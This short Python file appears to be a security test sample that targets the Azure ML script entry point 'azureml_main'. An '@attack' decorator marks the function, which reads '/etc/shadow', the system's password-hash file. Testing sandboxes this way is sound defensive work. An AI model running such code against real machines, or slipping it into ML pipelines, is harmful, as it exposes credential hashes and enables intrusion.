"""Reads the passwords of the machine."""

from attack import attack, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return read("/etc/shadow")
